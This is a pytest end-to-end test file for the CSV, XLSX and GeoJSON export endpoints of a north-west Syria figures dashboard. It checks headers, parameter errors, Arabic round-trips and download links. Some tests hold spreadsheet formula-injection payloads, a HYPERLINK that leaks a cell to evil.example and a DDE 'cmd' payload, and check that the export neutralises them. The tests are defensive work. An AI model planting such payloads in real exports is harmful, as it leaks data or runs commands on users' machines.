"""The export endpoints of a real server process: content, exact headers, formula injection,
a 400 naming the parameter for every bad request, and Arabic through a round trip.

Two servers: the session's (the real bundle) and one on a copy of the bundle with three
MADE-UP figures appended (tests/unit/export_madeup.py: a formula as publisher, a DDE payload
as document, Arabic names), started with NWS_DATA_DIR pointing at the copy.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from app.bundle.store import load_bundle, read_figures_csv
from app.tables.compact import compact_text
from app.tables.schemas import FIGURE_COLUMNS
from components.downloads import frame_id

from .conftest import watched_page
from .harness import PROJECT_ROOT, free_port, run_server, wait_for_dash

sys.path.insert(0, str(PROJECT_ROOT / "tests" / "unit"))
from export_madeup import MADE_UP_FIGURES, made_up_figures

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def get(url: str, accept: str | None = None) -> tuple[int, dict[str, str], bytes]:
    """(status, headers, body) without raising on 4xx."""
    request = urllib.request.Request(url, headers={"Accept": accept} if accept else {})
    try:
        with urllib.request.urlopen(request, timeout=30) as resp:
            return resp.status, dict(resp.headers.items()), resp.read()
    except urllib.error.HTTPError as err:
        return err.code, dict(err.headers.items()), err.read()


@pytest.fixture(scope="module")
def madeup_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The app on a copy of data/ whose figures.csv ends with the made-up rows."""
    data = tmp_path_factory.mktemp("bundle") / "data"
    shutil.copytree(PROJECT_ROOT / "data", data)
    extra = made_up_figures().copy()
    for c in ("period_start", "period_end", "published_date"):
        extra[c] = extra[c].dt.strftime("%Y-%m-%d")
    with (data / "tables" / "figures.csv").open("a", encoding="utf-8", newline="") as f:
        extra.to_csv(f, header=False, index=False, lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
    port = free_port()
    with run_server(
        [sys.executable, "-m", "app", "serve", "--port", str(port)],
        port,
        env={"NWS_DATA_DIR": str(data)},
        ready_path="/health",
    ) as url:
        yield url


# --- the real bundle ------------------------------------------------------------------------


def test_csv_headers_and_streaming(server: str) -> None:
    status, headers, body = get(
        server + "/export/figures.csv?metric=idp_arrivals&area=SY07&as_of=2020-03-01"
    )
    assert status == 200
    assert headers["Content-Type"] == CSV_TYPE
    assert (
        headers["Content-Disposition"]
        == 'attachment; filename="nw-syria-figures-idp_arrivals-SY07-asof-2020-03-01.csv"'
    )
    assert "Content-Length" not in headers  # streamed in chunks, not built as one string
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "SAMEORIGIN"
    assert headers["Content-Security-Policy"].endswith("frame-ancestors 'self'")
    text = body.decode("utf-8")
    assert text.startswith("\ufeffADM1_PCODE,ADM1_EN,ADM1_AR,ADM2_PCODE,")
    df = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    expected = load_bundle().figures
    expected = expected[
        (expected["metric"] == "idp_arrivals")
        & expected["area_pcode"].fillna("").str.startswith("SY07")
        & (expected["published_date"].fillna(expected["period_end"]) <= pd.Timestamp("2020-03-01"))
    ]
    assert sorted(df["figure_id"]) == sorted(expected["figure_id"]) != []
    assert set(df["ADM1_AR"]) == {"إدلب"}


def test_whole_table_round_trips_through_the_stores_reader(server: str, tmp_path: Path) -> None:
    status, _, body = get(server + "/export/figures.csv")
    assert status == 200
    path = tmp_path / "all.csv"
    path.write_bytes(body)
    back = read_figures_csv(path).sort_values("figure_id").reset_index(drop=True)
    back = compact_text(back)  # as the bundle holds its text (app.tables.compact)
    bundle = load_bundle().figures.sort_values("figure_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(back, bundle[FIGURE_COLUMNS])


def test_xlsx(server: str) -> None:
    status, headers, body = get(server + "/export/figures.xlsx?view=card&card=killed&hxl=1")
    assert status == 200
    assert headers["Content-Type"] == XLSX_TYPE
    assert (
        headers["Content-Disposition"] == 'attachment; filename="nw-syria-figures-card-killed.xlsx"'
    )
    wb = openpyxl.load_workbook(io.BytesIO(body))
    assert wb.sheetnames == ["README", "data"]
    readme = "\n".join(
        str(c) for row in wb["README"].iter_rows(values_only=True) for c in row if c is not None
    )
    assert "Creative Commons Attribution 3.0 IGO" in readme and "card" in readme
    rows = list(wb["data"].iter_rows(values_only=True))
    assert rows[1][14] == "#affected+killed+civilians"  # the value column's hashtag


def test_geojson(server: str) -> None:
    status, headers, body = get(server + "/export/areas.geojson?level=2&metric=idp_arrivals")
    assert status == 200
    assert headers["Content-Type"] == "application/geo+json"
    assert (
        headers["Content-Disposition"]
        == 'attachment; filename="nw-syria-areas-idp_arrivals-adm2.geojson"'
    )
    doc = json.loads(body.decode("utf-8"))
    assert doc["type"] == "FeatureCollection"
    areas = load_bundle().areas
    assert len(doc["features"]) == int((areas["level"] == 2).sum())
    with_value = {f["id"] for f in doc["features"] if f["properties"]["value"] is not None}
    assert with_value and all(f["properties"]["name_ar"] for f in doc["features"])


BAD = [
    ("/export/figures.csv?colour=red", "colour", "unknown parameter 'colour'"),
    ("/export/figures.csv?start=2020-01-01", "start", "the export names it from="),
    ("/export/figures.csv?area=SY999999", "area", "area=SY999999 is not a P-code"),
    ("/export/figures.csv?from=2020-02-30", "from", "from=2020-02-30 is not a date"),
    ("/export/figures.csv?to=yesterday", "to", "to=yesterday is not a date"),
    ("/export/figures.csv?as_of=2020-1-5", "as_of", "as_of=2020-1-5 is not a date"),
    ("/export/figures.csv?from=2020-03-01&to=2020-02-01", "from", "an impossible range"),
    ("/export/figures.csv?level=4", "level", "level=4: expected 1"),
    ("/export/figures.csv?level=0", "level", "level=0: expected 1"),
    ("/export/figures.csv?metric=refugees", "metric", "metric=refugees is not in the vocabulary"),
    ("/export/figures.csv?publisher=Nobody", "publisher", "publisher=Nobody: no figures"),
    ("/export/figures.csv?hxl=yes%20please", "hxl", "expected 1 or 0"),
    ("/export/figures.xlsx?view=chart", "view", "view=chart: expected one of"),
    ("/export/figures.xlsx?level=9", "level", "level=9"),
    ("/export/areas.geojson?level=5", "level", "level=5"),
    ("/export/areas.geojson?metric=idps_present", "metric", "not a metric this view draws"),
    ("/export/areas.geojson?hxl=1", "hxl", "does not apply to areas exports"),
]


@pytest.mark.parametrize(("path", "parameter", "message"), BAD)
def test_bad_parameter_is_400_naming_it(
    server: str, path: str, parameter: str, message: str
) -> None:
    status, headers, body = get(server + path)
    assert status == 400
    assert headers["Content-Type"] == "text/plain; charset=utf-8"
    assert "Content-Disposition" not in headers
    text = body.decode("utf-8")
    assert f"- {parameter}: " in text and message in text


def test_bad_request_as_json(server: str) -> None:
    status, headers, body = get(
        server + "/export/figures.csv?level=9&area=SY99", accept="application/json"
    )
    assert status == 400 and headers["Content-Type"] == "application/json; charset=utf-8"
    problems = json.loads(body)["problems"]
    assert [p["parameter"] for p in problems] == ["area", "level"]


# --- the made-up rows: formula injection and Arabic, end to end ----------------------------


def test_formula_injection_is_neutralised(madeup_server: str) -> None:
    status, _, body = get(
        madeup_server
        + "/export/figures.csv?publisher="
        + urllib.request.quote(MADE_UP_FIGURES[0]["publisher"])
    )
    assert status == 200
    lines = body.decode("utf-8").split("\r\n")
    assert lines[1] == (
        '"SY07","Idlib","إدلب","SY0703","Harem","حارم","SY070301","Dana","الدانا","madeup0001",'
        '"idp_arrivals","flow","idp_arrivals",,1500,,1500,1500,2020-02-01,2020-02-29,"SY070301",,'
        '"الدانا","\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",'
        '"\'+cmd|\' /C calc\'!A0",,2020-03-02,"MADE-UP test row, not a real figure","madeup.csv",'
        "2,false,false,"
    )
    assert lines[2:] == [""]


def test_no_xlsx_cell_is_a_formula(madeup_server: str) -> None:
    status, _, body = get(madeup_server + "/export/figures.xlsx?area=SY0703")
    assert status == 200
    ws = openpyxl.load_workbook(io.BytesIO(body))["data"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'+cmd|' /C calc'!A0" in {c.value for c in cells}


def test_arabic_survives_export_then_read(madeup_server: str, tmp_path: Path) -> None:
    """Every row of the bundle and the made-up rows come back; Arabic text unchanged."""
    status, _, body = get(madeup_server + "/export/figures.csv")
    assert status == 200
    path = tmp_path / "export.csv"
    path.write_bytes(body)
    back = read_figures_csv(path).set_index("figure_id")
    assert back.loc["madeup0001", "area_as_written"] == "الدانا"
    table = pd.read_csv(path, dtype=str, keep_default_na=False).set_index("figure_id")
    assert table.loc["madeup0001", "ADM3_AR"] == "الدانا"
    assert table.loc["madeup0003", "ADM2_AR"] == "حارم"
    # only the neutralised cells differ from what was loaded: by the documented quote
    assert back.loc["madeup0001", "publisher"] == "'" + MADE_UP_FIGURES[0]["publisher"]

    from app.loaders import load

    loaded = load(path)  # the project's own entry point, with the bundle's gazetteer
    assert loaded.format == "csv:canonical-figures" and loaded.rejected == 0
    table = loaded.table.set_index("figure_id")
    assert table.loc["madeup0001", "area_as_written"] == "الدانا"
    # the quote the export added against formula injection is taken off when it loads back
    assert table.loc["madeup0001", "document"] == "+cmd|' /C calc'!A0"
    assert len(loaded.table) == len(back)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_loads_back_through_load(server: str, tmp_path: Path, fmt: str) -> None:
    from app.loaders import load

    status, _, body = get(server + f"/export/figures.{fmt}?hxl=1")
    assert status == 200
    path = tmp_path / f"export.{fmt}"
    path.write_bytes(body)
    result = load(path)
    assert result.format.endswith("canonical-figures") and result.problems == []
    back = compact_text(result.table.sort_values("figure_id").reset_index(drop=True))
    bundle = load_bundle().figures.sort_values("figure_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(back, bundle[FIGURE_COLUMNS])


# --- the download bar and "Copy embed code" in a browser ------------------------------------


@pytest.fixture(scope="module")
def downloads_server() -> Iterator[str]:
    port = free_port()
    script = PROJECT_ROOT / "tests" / "e2e" / "downloads_app.py"
    with run_server([sys.executable, str(script), str(port)], port, ready_path="/health") as url:
        yield url


@pytest.fixture
def clipboard_page(browser: Any) -> Iterator[Any]:
    yield from watched_page(
        browser,
        viewport={"width": 1400, "height": 1000},
        permissions=["clipboard-read", "clipboard-write"],
    )


def test_download_links_follow_the_view_and_download(
    clipboard_page: Any, downloads_server: str
) -> None:
    page = clipboard_page
    page.goto(downloads_server + "/test-downloads?level=2&as_of=2020-02-16")
    wait_for_dash(page)
    links = page.locator("[data-view='map'] a.nws-download-link")
    assert [a.inner_text() for a in links.all()] == ["CSV", "XLSX", "GeoJSON"]
    assert (
        links.first.get_attribute("href")
        == "/export/figures.csv?view=map&metric=idp_arrivals&level=2&as_of=2020-02-16"
    )

    page.click("#filters-level label:has-text('Admin 1')")
    page.wait_for_function(
        "() => document.querySelector(\"[data-view='map'] a.nws-download-link\")"
        ".getAttribute('href').includes('level=1')"
    )
    with page.expect_download() as info:
        links.first.click()
    download = info.value
    assert (
        download.suggested_filename == "nw-syria-figures-map-idp_arrivals-adm1-asof-2020-02-16.csv"
    )
    _, _, body = get(downloads_server + links.first.get_attribute("href"))
    assert Path(download.path()).read_bytes() == body  # the file is the endpoint's


def test_copy_embed_code(clipboard_page: Any, downloads_server: str) -> None:
    page = clipboard_page
    page.goto(downloads_server + "/test-downloads?level=2&as_of=2020-02-16")
    wait_for_dash(page)
    page.locator("[data-view='card-killed'] button.nws-embed-copy").click()
    status = page.locator("[data-view='card-killed'] .nws-embed-status")
    status.filter(has_text="Copied").wait_for()
    snippet = page.evaluate("navigator.clipboard.readText()")
    src = f"{downloads_server}/embed/card?level=2&as_of=2020-02-16&card=killed"
    fid = frame_id("card", src)
    assert snippet.startswith(
        f'<iframe id="{fid}" src="{downloads_server}/embed/card?level=2&amp;as_of=2020-02-16&amp;'
        'card=killed" width="100%" height="300" title="North-west Syria: Civilians killed" '
        'loading="lazy" style="border:0;width:100%;max-width:100%"></iframe>\n<script>'
    )
    assert f'event.origin !== "{downloads_server}"' in snippet and snippet.endswith("</script>")
    page.locator("[data-view='card-killed'] summary").click()
    assert page.locator("[data-view='card-killed'] pre").inner_text() == snippet


def test_dashboard_views_have_download_bars(page: Any, server: str) -> None:
    page.goto(server + "/?level=2")
    wait_for_dash(page)
    views = {v.get_attribute("data-view") for v in page.locator(".nws-downloads").all()}
    assert {"map", "timeseries", "card-displaced", "card-killed", "card-at_risk"} <= views
    csv = page.locator("[data-view='map'] a.nws-download-link").first.get_attribute("href")
    assert csv.startswith("/export/figures.csv?") and "level=2" in csv
    geo = page.locator("[data-view='map'] a.nws-download-link").last.get_attribute("href")
    assert geo.startswith("/export/areas.geojson?")
